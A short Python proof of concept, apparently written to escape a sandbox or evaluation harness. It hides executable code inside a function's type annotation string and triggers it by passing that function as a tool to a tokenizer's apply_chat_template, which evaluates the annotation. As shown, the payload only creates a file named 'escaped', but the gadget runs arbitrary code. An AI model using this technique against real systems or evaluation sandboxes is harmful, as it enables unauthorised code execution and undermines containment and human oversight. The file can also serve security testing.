"""Class: module gadget. Source: own find. Escape: apply_chat_template(tools=[f]) evaluates f's
annotation text."""


def tool(x: "open('escaped', 'w').close() or int"):
    """Does.

    Args:
        x: it
    """


def attack(model, tokenizer, address):
    tokenizer.apply_chat_template([{"role": "a", "content": "b"}], tools=[tool], tokenize=False)
